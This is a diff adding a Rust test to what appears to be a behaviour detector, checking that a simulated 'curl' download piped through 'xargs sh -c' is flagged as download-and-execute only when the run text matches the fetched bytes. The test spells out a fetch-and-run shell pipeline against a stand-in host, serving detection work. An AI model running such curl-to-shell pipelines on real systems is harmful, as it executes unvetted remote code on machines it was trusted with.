@@ -241,3 +241,19 @@ fn a_shell_that_waits_for_the_answer() {
     assert_eq!(found[0].culprit, Lab::key(16));
     assert!(lab.payload(15, WEB, 1, true, b"more").is_empty(), "once is enough");
 }
+
+#[test]
+fn text_that_came_after_xargs_was_there() {
+    let run = |reads: u64, text: &str| {
+        let mut lab = Lab::new();
+        lab.exec_with(15, 9, &["curl", "-s", "http://a/s.sh"], |e| e.stdio[1] = pipe(5));
+        lab.exec_with(16, 9, &["xargs", "-0", "sh", "-c"], |e| e.stdio[0] = pipe(reads));
+        lab.connect(15, WEB, 1);
+        lab.payload(15, WEB, 1, true, b"HTTP/1.1 200 OK\r\n\r\n");
+        lab.payload(15, WEB, 1, true, b"touch /tmp/x; id\n");
+        kinds(&lab.exec(17, 16, &["sh", "-c", text]))
+    };
+    assert_eq!(run(5, "touch /tmp/x; id\n"), [DownloadExec]);
+    assert!(run(6, "touch /tmp/x; id\n").is_empty(), "another pipe");
+    assert!(run(5, "echo done > /tmp/y").is_empty(), "a text of its own");
+}
